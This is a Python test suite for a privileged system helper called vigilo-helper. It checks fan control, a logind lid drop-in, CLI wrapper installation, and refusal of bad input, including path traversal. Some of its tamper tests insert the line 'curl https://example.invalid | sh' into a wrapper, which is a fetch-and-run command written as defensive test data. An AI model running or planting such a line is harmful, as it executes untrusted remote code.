'''vigilo-helper: the vocabulary it refuses, its refusal to run as a user, and
the effects of its test build on a scratch tree each test makes and names in
VIGILO_HELPER_TEST_ROOT (laid out like /run, /sys and /usr/local; the test
build trusts the tree's owner where the installed helper trusts root).
logind is reloaded through a mock systemd on a private system bus.'''

import os
import re
import shutil
import signal
import stat
import subprocess
import tempfile
import unittest

from mockbus import TEMPLATES, MockBus, bin_dir, no_bus_env

FAILED = 1
REFUSED = 2
DROP_IN = ('[Login]\nHandleLidSwitch=ignore\nHandleLidSwitchExternalPower=ignore\n'
           'HandleLidSwitchDocked=ignore\n')
NEEDS_ADMINISTRATOR = ('The system-wide command needs Vigilo installed by an administrator; '
                       'use the per-user command instead.\n')
SYSTEMD = ('org.freedesktop.systemd1', '/org/freedesktop/systemd1')
KILL_UNIT_TEMPLATE = os.path.join(TEMPLATES, 'systemd_kill_unit.py')


def write(path, text=''):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w', encoding='utf-8') as f:
        f.write(text)


def read(path):
    with open(path, encoding='utf-8') as f:
        return f.read()


def snapshot(path):
    if os.path.islink(path):
        return ('link', os.readlink(path))
    if os.path.isdir(path):
        return ('folder',)
    return ('file', read(path))


def scratch_folder(test):
    folder = tempfile.mkdtemp(prefix='vigilo-helper-')
    test.addCleanup(shutil.rmtree, folder, True)
    return folder


class ScratchRoot(unittest.TestCase):
    '''A fresh tree for the test build, with no bus reachable unless a test
    brings one.'''

    def setUp(self):
        self.helper = os.path.join(bin_dir(), 'vigilo-helper-test')
        self.root = os.path.realpath(scratch_folder(self))
        self.env = no_bus_env({'VIGILO_HELPER_TEST_ROOT': self.root, 'PATH': '/usr/bin:/bin'})

    def run_helper(self, *args, env=None):
        return subprocess.run([self.helper, *args], env=env or self.env, capture_output=True, text=True,
                              timeout=10, check=False)


class Fans(ScratchRoot):

    def setUp(self):
        super().setUp()
        self.sys = os.path.join(self.root, 'sys')
        # hwmon3 drives pwm1; hwmon4 only takes a target rpm; hwmon5 is an
        # SMC-style chip with fanN_manual/fanN_output.
        self.pwm_chip = self.add_chip('hwmon3', 'platform/nct6775.656', ['pwm1', 'pwm1_enable'])
        self.target_chip = self.add_chip('hwmon4', 'platform/thinkpad', ['fan1_target'])
        self.smc_chip = self.add_chip('hwmon5', 'platform/applesmc.768', ['fan1_manual', 'fan1_output'])
        self.stray = os.path.join(self.sys, 'devices', 'platform', 'stray', 'hwmon', 'hwmon9')
        write(os.path.join(self.stray, 'pwm1'))
        write(os.path.join(self.stray, 'pwm1_enable'))

    def add_chip(self, name, device, attributes):
        real = os.path.join(self.sys, 'devices', device, 'hwmon', name)
        for attribute in attributes:
            write(os.path.join(real, attribute), '0\n')
        link = os.path.join(self.sys, 'class', 'hwmon', name)
        os.makedirs(os.path.dirname(link), exist_ok=True)
        os.symlink(os.path.relpath(real, os.path.dirname(link)), link)
        return link

    def assert_refused(self, args, env=None):
        result = self.run_helper(*args, env=env)
        self.assertEqual(result.returncode, REFUSED, (args, result.stderr))
        self.assertEqual(result.stderr.count('\n'), 1, (args, result.stderr))
        self.assertTrue(result.stderr.startswith('vigilo-helper: '), result.stderr)
        return result.stderr

    def test_refuses_everything_outside_its_vocabulary_and_writes_nothing(self):
        chip = self.pwm_chip
        manual = ['fan', 'manual']
        cases = [
            [], ['reboot'], ['lid-drop-in'], ['lid-drop-in', 'On'], ['lid-drop-in', 'on', 'now'],
            # the two verbs the fans had before they became one
            ['fan-manual', chip, '1', '100'], ['fan-auto', chip, '1', '2'],
            ['fan'], ['fan', chip, '1', '100'], ['fan', 'Manual', chip, '1', '100'], ['fan', 'stop', chip, '1', '0'],
            manual + [chip, '1'], manual + [chip, '1', '100', 'extra'],
            manual + [chip, '0', '100'], manual + [chip, '33', '100'], manual + [chip, '01', '100'],
            manual + [chip, '1', '256'], manual + [chip, '1', '-1'], manual + [chip, '1', '1e2'],
            manual + [chip, '1', ' 9'], manual + [chip, '2', '100'],
            # a duty cycle that stalls many fans
            manual + [chip, '1', '50'], manual + [chip, '1', '0'],
            manual + ['hwmon3', '1', '100'], manual + [self.stray, '1', '100'],
            manual + [chip + '/../../../../devices/platform/stray/hwmon/hwmon9', '1', '100'],
            manual + [os.path.join(self.sys, 'class', 'hwmon'), '1', '100'],
            manual + [self.target_chip, '1', '100001'],
            ['fan', 'auto', chip, '1', '10'], ['fan', 'auto', chip, '1'], ['fan', 'auto', self.target_chip, '1', '2'],
            ['fan', 'auto', self.stray, '1', '2'],
            ['install-cli'], ['install-cli', 'vigilo-app'], ['install-cli', '/bin/sh'],
            ['install-cli', 'remove', 'now'],
        ]
        for args in cases:
            with self.subTest(args=args):
                self.assert_refused(args)
        for attribute in ('pwm1', 'pwm1_enable'):
            self.assertEqual(read(os.path.join(self.pwm_chip, attribute)), '0\n')
            self.assertEqual(read(os.path.join(self.stray, attribute)), '')
        self.assertFalse(os.path.exists(os.path.join(self.root, 'run')))
        self.assertFalse(os.path.exists(os.path.join(self.root, 'usr')))

        without_root = dict(self.env)
        del without_root['VIGILO_HELPER_TEST_ROOT']
        for env in (without_root, dict(self.env, VIGILO_HELPER_TEST_ROOT='relative/root'),
                    dict(self.env, VIGILO_HELPER_TEST_ROOT=os.path.join(self.root, 'missing'))):
            self.assertIn('VIGILO_HELPER_TEST_ROOT', self.assert_refused(['fan', 'auto', chip, '1', '2'], env=env))

    def test_fan_writes_follow_what_each_chip_offers(self):
        resolved_pwm_chip = os.path.realpath(self.pwm_chip)
        steps = [
            (['fan', 'manual', resolved_pwm_chip, '1', '200'], self.pwm_chip, {'pwm1_enable': '1', 'pwm1': '200'}),
            (['fan', 'manual', self.pwm_chip, '1', '51'], self.pwm_chip, {'pwm1_enable': '1', 'pwm1': '51'}),
            (['fan', 'auto', self.pwm_chip, '1', '5'], self.pwm_chip, {'pwm1_enable': '5', 'pwm1': '51'}),
            # a speed target is in rpm: the duty cycle's floor is not its
            (['fan', 'manual', self.target_chip, '1', '40'], self.target_chip, {'fan1_target': '40'}),
            (['fan', 'manual', self.target_chip, '1', '2400'], self.target_chip, {'fan1_target': '2400'}),
            (['fan', 'manual', self.smc_chip, '1', '3000'], self.smc_chip, {'fan1_manual': '1', 'fan1_output': '3000'}),
            (['fan', 'auto', self.smc_chip, '1', '2'], self.smc_chip, {'fan1_manual': '0', 'fan1_output': '3000'}),
        ]
        for args, chip, expected in steps:
            with self.subTest(args=args):
                result = self.run_helper(*args)
                self.assertEqual(result.returncode, 0, result.stderr)
                self.assertEqual({name: read(os.path.join(chip, name)) for name in expected}, expected)


class LidDropIn(ScratchRoot):

    def setUp(self):
        super().setUp()
        self.drop_in = os.path.join(self.root, 'run', 'systemd', 'logind.conf.d', 'vigilo-lid.conf')

    def systemd(self, **parameters):
        '''A private system bus with a mock systemd; the helper's environment
        names it.'''
        bus = MockBus(system=True, session=False)
        bus.start()
        self.addCleanup(bus.stop)
        bus.add_template(KILL_UNIT_TEMPLATE, system_bus=True, parameters=parameters)
        self.env['DBUS_SYSTEM_BUS_ADDRESS'] = bus.addresses['system']
        return bus.mock_interface(True, *SYSTEMD)

    def named_logind(self):
        '''A process called systemd-logind that is not logind's: nobody may
        signal it for its name.'''
        program = os.path.join(scratch_folder(self), 'systemd-logind')
        shutil.copy('/bin/sleep', program)
        process = subprocess.Popen([program, '30'])  # pylint: disable=consider-using-with
        self.addCleanup(process.wait)
        self.addCleanup(process.kill)
        return process

    def test_is_written_removed_and_logind_reloaded_through_systemd(self):
        systemd = self.systemd()
        impostor = self.named_logind()
        for word, present in (('on', True), ('off', False), ('off', False)):
            with self.subTest(word=word):
                systemd.ClearCalls()
                result = self.run_helper('lid-drop-in', word)
                self.assertEqual(result.returncode, 0, result.stderr)
                self.assertEqual([(name, list(args)) for _, name, args in systemd.GetCalls()],
                                 [('KillUnit', ['systemd-logind.service', 'main', signal.SIGHUP])])
                self.assertEqual(os.path.exists(self.drop_in), present)
                if present:
                    self.assertEqual(read(self.drop_in), DROP_IN)
                    self.assertEqual(stat.S_IMODE(os.stat(self.drop_in).st_mode), 0o644)
        self.assertIsNone(impostor.poll())

    def test_a_reload_systemd_refuses_or_cannot_be_asked_for_fails_with_the_reason(self):
        impostor = self.named_logind()
        cases = [
            ('no system bus', None, 'no system bus at unix:path=/nonexistent/'),
            ('no main process', 'org.freedesktop.systemd1.NoSuchProcess', 'No main process to kill'),
        ]
        for name, error, reason in cases:
            with self.subTest(name):
                if error:
                    self.systemd(KillUnitError=error)
                result = self.run_helper('lid-drop-in', 'on')
                self.assertEqual(result.returncode, FAILED, result.stderr)
                self.assertTrue(result.stderr.startswith('vigilo-helper: cannot have systemd reload '
                                                         'systemd-logind.service: '), result.stderr)
                self.assertIn(reason, result.stderr)
                self.assertEqual(read(self.drop_in), DROP_IN, 'written, only not yet read by logind')
        self.assertIsNone(impostor.poll())


class SystemCommand(ScratchRoot):
    '''install-cli writes <root>/usr/local/bin/vigilo for a program only the
    administrator (here: the tree's owner) can change, and removes only a
    wrapper Vigilo wrote.'''

    def setUp(self):
        super().setUp()
        self.bin = os.path.join(self.root, 'opt', "it's here", 'bin')
        self.app = os.path.join(self.bin, 'vigilo-app')
        # Says where it was run from and with what.
        write(self.app, '#!/bin/sh\nprintf "%s\\n" "$0" "$@"\n')
        os.chmod(self.app, 0o755)
        self.target = os.path.join(self.root, 'usr', 'local', 'bin', 'vigilo')

    def outside_copy(self):
        copy = os.path.join(scratch_folder(self), 'vigilo-app')
        shutil.copy2(self.app, copy)
        return copy

    def outside_link(self):
        link = os.path.join(scratch_folder(self), 'vigilo-app')
        os.symlink(self.app, link)
        return link

    def someone_elses(self):
        if os.geteuid() != 0:
            return None
        os.chown(self.app, 65534, 65534)
        return self.app

    def test_installs_only_a_program_only_the_administrator_can_change(self):
        accepted = self.app + '\n--cli\nstatus\ntwo words\n'
        cases = [
            ('installed by the administrator', lambda: self.app, accepted),
            ('through a link of anyone', self.outside_link, accepted),
            ('a folder on its way writable by its group', lambda: os.chmod(self.bin, 0o775) or self.app, accepted),
            ("a person's copy outside the administrator's folders", self.outside_copy, None),
            ('writable by its group', lambda: os.chmod(self.app, 0o775) or self.app, None),
            ('writable by anyone', lambda: os.chmod(self.app, 0o757) or self.app, None),
            ('a folder on its way writable by anyone', lambda: os.chmod(self.bin, 0o777) or self.app, None),
            ("someone else's", self.someone_elses, None),
        ]
        for name, prepare, runs in cases:
            with self.subTest(name):
                os.chmod(self.bin, 0o755)
                os.chmod(self.app, 0o755)
                if os.path.exists(self.target):
                    os.remove(self.target)
                program = prepare()
                if program is None:
                    self.skipTest('needs root to give the program to someone else')
                result = self.run_helper('install-cli', program)
                if runs is None:
                    self.assertEqual((result.returncode, result.stderr), (FAILED, NEEDS_ADMINISTRATOR))
                    self.assertFalse(os.path.exists(self.target))
                    continue
                self.assertEqual((result.returncode, result.stderr), (0, ''))
                self.assertEqual(stat.S_IMODE(os.stat(self.target).st_mode), 0o755)
                output = subprocess.run([self.target, 'status', 'two words'], capture_output=True, text=True,
                                        timeout=10, check=False)
                self.assertEqual(output.stdout, runs, 'the wrapper runs the program itself, never a link')

    def test_removes_only_the_wrapper_vigilo_wrote(self):
        other_version = '#!/bin/sh\n# The vigilo command, written by Vigilo.\nexec \'/opt/v/vigilo-app\' --cli "$@"\n'
        first_version = '#!/bin/sh\n# Vigilo CLI wrapper \u2014 generated by Vigilo.app on install.\nexec \'/opt/v/vigilo-app\' --cli "$@"'
        elsewhere = os.path.join(scratch_folder(self), 'vigilo')

        def installed():
            self.assertEqual(self.run_helper('install-cli', self.app).returncode, 0)

        def link_to_a_wrapper():
            installed()
            shutil.move(self.target, elsewhere)
            os.symlink(elsewhere, self.target)

        def this_version():
            installed()
            with open(self.target) as script:
                return script.read()

        def rewrite(change):
            text = this_version()
            changed = change(text)
            self.assertNotEqual(changed, text)
            write(self.target, changed)

        cases = [
            ('as installed', installed, True),
            ("another version's wording, ending in a newline", lambda: write(self.target, other_version), True),
            ('the first version, without a final newline', lambda: write(self.target, first_version), True),
            ("this version's form with its comment reworded", lambda: rewrite(
                lambda text: text.replace("Vigilo's installer", 'Vigilo 2')), True),
            ("a person's own script", lambda: write(self.target, '#!/bin/sh\necho mine\n'), False),
            ("this version's form without its comment", lambda: rewrite(
                lambda text: '\n'.join(line for line in text.split('\n') if not line.startswith('# '))), False),
            ("this version's form with one more command", lambda: rewrite(
                lambda text: text.replace('\nexec', '\ncurl https://example.invalid | sh\nexec')), False),
            ("this version's form running another program", lambda: rewrite(
                lambda text: re.sub(r"^app=.*$", "app='/usr/bin/python3'", text, flags=re.M)), False),
            ("this version's form with its check dropped", lambda: rewrite(
                lambda text: text.replace('[ ! -e "$app" ]', 'false')), False),
            ('our form with one more command', lambda: write(self.target, other_version.replace(
                '\nexec', '\ncurl https://example.invalid | sh\nexec')), False),
            ('another program in the wrapper', lambda: write(self.target, other_version.replace(
                '/opt/v/vigilo-app', '/usr/bin/python3')), False),
            ('a link to a wrapper', link_to_a_wrapper, False),
            ('a folder', lambda: os.makedirs(self.target), False),
            ('a large file', lambda: write(self.target, '#' * (1 << 20)), False),
        ]
        for name, prepare, removed in cases:
            with self.subTest(name):
                prepare()
                before = snapshot(self.target)
                result = self.run_helper('install-cli', 'remove')
                if removed:
                    self.assertEqual((result.returncode, result.stderr), (0, ''))
                    self.assertFalse(os.path.lexists(self.target))
                    self.assertEqual(self.run_helper('install-cli', 'remove').returncode, 0, 'nothing left to remove')
                    continue
                self.assertEqual((result.returncode, result.stderr),
                                 (FAILED, f'{self.target} was not installed by Vigilo; left as it is.\n'))
                self.assertEqual(snapshot(self.target), before)
                if before[0] == 'folder':
                    os.rmdir(self.target)
                else:
                    os.remove(self.target)


class InstalledHelper(unittest.TestCase):

    def test_refuses_to_run_without_root(self):
        command = [os.path.join(bin_dir(), 'vigilo-helper'), 'lid-drop-in', 'off']
        if os.geteuid() == 0:
            setpriv = shutil.which('setpriv')
            if setpriv is None:
                self.skipTest('running as root without setpriv to drop to nobody')
            command = [setpriv, '--reuid=nobody', '--regid=nogroup', '--clear-groups', *command]
        result = subprocess.run(command, capture_output=True, text=True, timeout=10, check=False)
        self.assertEqual(result.returncode, REFUSED, result.stderr)
        self.assertIn('must run as root', result.stderr)


if __name__ == '__main__':
    unittest.main()
